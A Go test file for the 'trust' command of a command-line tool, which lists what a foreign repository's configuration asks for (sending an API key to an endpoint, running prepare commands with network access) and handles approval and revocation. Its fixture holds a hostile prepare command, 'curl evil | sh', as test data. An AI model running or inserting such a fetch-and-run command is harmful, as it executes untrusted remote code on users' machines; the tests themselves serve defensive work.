package cli

import (
	"encoding/json"
	"strings"
	"testing"
)

const foreign = `-- specgen.yaml --
version: 1
model: {name: m, base_url: 'https://llm.example/v1', key_env: CORP_KEY}
-- specs/a.spec.md --
---
targets: [a.sh]
prepare: ["npm ci", "curl evil | sh"]
---
# Spec: A
## Behavior
- **B1** It is there.
-- specs/broken.spec.md --
---
tragets: [a.sh]
---
`

func TestTrustShowsAsksAndTakesBack(t *testing.T) {
	t.Parallel()
	d := newDesk(t, foreign)
	d.environ = append(d.environ, "CORP_KEY=sk-planted-0123456789abcdef")
	wants := []string{
		"send the value of CORP_KEY to https://llm.example/v1", "specgen.yaml:2:28", "run, with network: npm ci", "run, with network: curl evil | sh", "specs/a.spec.md",
	}

	code, stdout, stderr := d.run("trust")
	if code != ExitUsage {
		t.Errorf("without a terminal: exit %d", code)
	}
	contains(t, stdout, wants...)
	contains(t, stderr, "specgen trust --yes", "specs/broken.spec.md cannot be read")

	d.asked = true
	for _, answer := range []string{"", "\n", "n\n", "yeah\n"} {
		d.stdin = answer
		if code, _, stderr = d.run("trust"); code != ExitFindings {
			t.Errorf("answer %q: exit %d", answer, code)
		}
		contains(t, stderr, "approve 3 things for this repository? [y/N]", "nothing was approved")
	}
	contains(t, d.must("trust", "--list"), "you have approved nothing")
	contains(t, d.must("config", "show"), "CORP_KEY", "is not sent to https://llm.example/v1 before specgen trust")

	d.stdin = "y\n"
	contains(t, d.must("trust"), "approved 3 things")
	list := d.must("trust", "--list")
	contains(t, list, "2026-11-23  send the value of CORP_KEY to https://llm.example/v1", "curl evil | sh")
	contains(t, d.must("trust"), "everything that this repository wants is approved")
	contains(t, d.must("config", "show"), "goes to https://llm.example/v1")

	d.refused(ExitUsage, []string{"no approval of this repository has the digest 00"}, "trust", "--revoke", "00")
	contains(t, d.must("trust", "--revoke", strings.Fields(list)[0]), "took back 1 approval")
	contains(t, d.must("trust", "--revoke"), "took back 2 approvals")
	contains(t, d.must("trust", "--list"), "nothing")
}

func TestTrustIsForExactlyWhatWasShown(t *testing.T) {
	t.Parallel()
	d := newDesk(t, foreign)
	contains(t, d.must("trust", "--yes"), "approved 3 things")
	d.write("specgen.yaml", "version: 1\nmodel: {name: m, base_url: 'https://other.example/v1', key_env: CORP_KEY}\n")
	code, stdout, _ := d.run("trust")
	if code != ExitUsage {
		t.Errorf("exit %d", code)
	}
	contains(t, stdout, "https://other.example/v1\n", "npm ci   (approved by the user)")
}

func TestTrustForPrograms(t *testing.T) {
	t.Parallel()
	d := newDesk(t, foreign)
	code, stdout, _ := d.run("trust", "--json")
	var r trustReport
	if err := json.Unmarshal([]byte(stdout), &r); err != nil || code != ExitFindings || r.V != 1 || len(r.Requests) != 3 || r.Requests[0].Approval != "" {
		t.Fatalf("%v, exit %d:\n%s", err, code, stdout)
	}
	d.environ = append(d.environ, "SPECGEN_TRUST="+r.Requests[0].Digest)
	_, stdout, _ = d.run("trust", "--json")
	if err := json.Unmarshal([]byte(stdout), &r); err != nil || r.Requests[0].Approval != "environment" || r.Requests[1].Approval != "" {
		t.Errorf("%v:\n%s", err, stdout)
	}
	contains(t, d.must("trust", "--json", "--yes"), `"approval":"user"`)
}

func TestTrustWithoutAnythingToApprove(t *testing.T) {
	t.Parallel()
	d := newDesk(t, "-- README --\n")
	contains(t, d.must("trust"), "this repository wants nothing")
	d.refused(ExitUsage, []string{`unexpected argument "abc"`}, "trust", "abc")
	d.refused(ExitUsage, []string{"--revoke stands alone"}, "trust", "--revoke", "--yes")
}

// TestTrustCanBeRevokedWhateverTheRepositoryHolds: a broken configuration must not keep approvals alive.
func TestTrustCanBeRevokedWhateverTheRepositoryHolds(t *testing.T) {
	t.Parallel()
	d := newDesk(t, foreign)
	d.must("trust", "--yes")
	d.write("specgen.yaml", "version: 99\n")
	contains(t, d.must("trust", "--revoke"), "took back 3 approvals")
}

func TestTrustWithoutAHome(t *testing.T) {
	t.Parallel()
	d := newDesk(t, foreign)
	d.environ = append(d.environ, "HOME=", "XDG_CONFIG_HOME=")
	d.refused(ExitUsage, []string{"set HOME or XDG_CONFIG_HOME"}, "trust", "--yes")
}
